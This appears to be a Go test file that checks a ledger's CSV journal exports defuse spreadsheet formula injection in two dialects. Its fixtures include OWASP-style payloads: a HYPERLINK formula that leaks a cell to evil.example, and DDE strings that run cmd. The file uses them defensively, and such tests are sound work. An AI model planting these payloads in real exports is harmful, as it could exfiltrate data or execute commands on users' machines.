package reports_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/razao/razao/postings"
	"github.com/razao/razao/reports"
)

// formulas are what a PSP or a user could put in an id or a description
// to have a spreadsheet run it: every prefix of OWASP's CSV injection list.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
}

// TestCSVDefusesFormulasInEveryDialect: charge ids, refund ids and
// descriptions that start like a formula are prefixed with an apostrophe
// in the RFC 4180 export as in the Brazilian one, numbers (negative
// amounts too) are left as numbers, and the same data gives the same
// bytes.
func TestCSVDefusesFormulasInEveryDialect(t *testing.T) {
	t.Parallel()
	l, db := newLedger(t)
	at := sp(2026, 8, 10, 12, 0)
	for i, f := range formulas {
		charge := f + "#" + string(rune('a'+i)) // each its own charge
		s, err := postings.Sale(charge, "BRL", 10000, 0, at)
		s.Description = f
		post(t, l, s, err)
		r, err := postings.Refund(charge, f, "BRL", 2500, at)
		r.Description = f
		post(t, l, r, err)
	}
	for _, d := range []reports.Dialect{reports.RFC4180, reports.Brazil} {
		t.Run(d.String(), func(t *testing.T) {
			t.Parallel()
			out := exportCSV(t, db, reports.ExportJournal, aug2026, d)
			if again := exportCSV(t, db, reports.ExportJournal, aug2026, d); again != out {
				t.Fatal("the same month exported twice differs")
			}
			r := csv.NewReader(bytes.NewReader([]byte(strings.TrimPrefix(out, "\ufeff"))))
			r.Comma = ','
			if d == reports.Brazil {
				r.Comma = ';'
			}
			records, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			col := map[string]int{}
			for i, name := range records[0] {
				col[name] = i
			}
			if len(records) != 1+4*len(formulas) {
				t.Fatalf("%d records, want header + %d", len(records), 4*len(formulas))
			}
			seen := map[string]int{}
			for _, rec := range records[1:] {
				for _, name := range []string{"charge_id", "refund_id", "description", "idempotency_key", "partner"} {
					v := rec[col[name]]
					if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
						t.Errorf("%s %q would run as a formula", name, v)
					}
					for _, f := range formulas {
						if strings.HasPrefix(v, "'"+f) {
							seen[name]++
						}
					}
				}
				// Numbers stay numbers: the credit of each set is negative.
				if a, c := rec[col["amount"]], rec[col["amount_centavos"]]; a != "-100.00" && a != "-100,00" && a != "-25.00" && a != "-25,00" &&
					a != "100.00" && a != "100,00" && a != "25.00" && a != "25,00" || strings.HasPrefix(c, "'") {
					t.Errorf("amount %q, centavos %q", a, c)
				}
			}
			// Every sale's two postings and every refund's two carry the
			// charge id and the description; the refund's, its refund id.
			for name, want := range map[string]int{"charge_id": 4 * len(formulas), "description": 4 * len(formulas), "refund_id": 2 * len(formulas)} {
				if seen[name] != want {
					t.Errorf("%d %s cells defused, want %d", seen[name], name, want)
				}
			}
		})
	}
}
